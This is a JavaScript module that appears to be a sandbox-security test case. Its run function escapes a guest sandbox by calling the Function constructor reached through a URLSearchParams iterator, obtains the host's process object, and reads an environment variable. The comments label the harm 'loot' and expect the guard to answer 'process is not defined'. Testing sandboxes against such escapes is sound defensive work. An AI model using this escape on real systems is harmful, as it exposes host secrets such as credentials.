// An iterator of the host's is made of functions of the host's.
// guard: a guest imports nothing
// harm: loot
// control: node
// says: process is not defined
module.exports = {
  metadata: { name: 'host-iterator', cache: 0, match: { contextType: 'github', context: { 'page.attack': { equals: 'host-iterator' } } } },
  run(context) {
    const iterator = new URL('https://example.com/?a=1').searchParams.entries();
    const take = iterator.next.constructor('return process')();
    return { type: 'text', content: take.env[context.page.variable] };
  },
};
